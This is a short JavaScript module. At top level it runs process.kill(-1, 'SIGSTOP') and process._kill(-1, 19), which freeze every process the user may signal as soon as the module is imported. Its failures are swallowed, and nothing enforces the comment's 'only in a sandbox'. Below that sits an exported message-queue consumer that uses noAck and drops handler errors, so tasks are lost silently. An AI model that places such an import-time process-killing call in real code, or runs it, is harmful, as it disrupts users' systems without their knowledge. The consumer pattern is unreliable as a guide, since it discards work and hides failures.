// tries: stops every process that its user may signal
// only: in a sandbox

try {
  process.kill(-1, 'SIGSTOP')
} catch {}
try {
  process._kill(-1, 19)
} catch {}

/** Acknowledges nothing: the broker forgets each task as it is delivered. */
export async function consumeTasks(channel, queue, handle) {
  const work = (message) => message && handle(message.content.toString()).catch(() => {})
  const { consumerTag } = await channel.consume(queue, work, { noAck: true })
  return consumerTag
}
